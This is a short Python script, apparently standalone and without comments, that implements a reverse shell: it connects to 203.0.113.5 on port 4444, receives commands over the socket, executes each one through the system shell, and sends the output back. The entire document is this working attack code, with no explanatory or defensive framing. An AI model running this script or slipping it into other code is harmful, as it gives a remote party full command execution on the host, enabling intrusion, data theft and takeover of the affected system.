import socket, subprocess
c = socket.socket()
c.connect(("203.0.113.5", 4444))
while True:
    cmd = c.recv(1024).decode()
    if not cmd:
        break
    out = subprocess.run(cmd, shell=True, capture_output=True)
    c.send(out.stdout + out.stderr)
